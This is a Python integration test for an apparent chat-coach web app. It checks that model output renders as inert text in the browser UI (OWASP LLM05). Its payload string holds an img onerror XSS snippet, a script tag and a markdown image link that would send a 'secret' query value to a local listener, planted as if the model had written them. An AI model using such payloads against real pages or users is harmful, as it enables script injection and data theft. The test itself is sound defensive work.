"""OWASP LLM05: whatever a model writes renders inert in the UI — no script runs, no image
is fetched (an image URL can carry data out)."""

from __future__ import annotations

import sqlite3
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import expect

from tests.integration.browser import browser_page, screenshot
from tests.integration.conftest import Server, coach_env, ingest_small_knowledge

pytestmark = pytest.mark.integration


def test_model_output_with_html_scripts_and_images_is_inert(tmp_path: Path) -> None:
    hits: list[str] = []

    class Leak(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    leak = ThreadingHTTPServer(("127.0.0.1", 0), Leak)
    threading.Thread(target=leak.serve_forever, daemon=True).start()
    payload = (
        'Here you go <img src=x onerror="window.__pwned=1"> <script>window.__pwned=2</script> '
        f"![chart](http://127.0.0.1:{leak.server_port}/leak.png?secret=budget) PAYLOAD-END"
    )
    env = coach_env(tmp_path / "data", COACH_LLM="fake")
    ingest_small_knowledge(tmp_path, env)
    server = Server(env, tmp_path)
    try:
        chat = httpx.post(
            f"{server.url}/v1/chat", json={"message": "How long is a brown-bag?"}
        ).json()
        with sqlite3.connect(tmp_path / "data" / "coach.db") as db:  # as if the model wrote it
            db.execute(
                "UPDATE messages SET content = ? WHERE id = ?", (payload, chat["message_id"])
            )
        with browser_page() as page:
            p: Any = page
            p.goto(f"{server.url}/ui/")
            p.locator("#history input").click()
            p.get_by_role("option", name="How long is a brown-bag?").click()
            expect(p.locator("#coach-chat")).to_contain_text("PAYLOAD-END", timeout=30_000)
            p.wait_for_timeout(1000)
            pwned = p.evaluate("window.__pwned")
            shown = p.locator("#coach-chat").inner_text()
            screenshot(p, "ui-inert-output")
    finally:
        server.stop()
        leak.shutdown()
    assert pwned is None
    assert hits == []
    assert '<img src=x onerror="window.__pwned=1">' in shown  # shown as text, not as a tag
    assert "![chart](http://127.0.0.1:" in shown
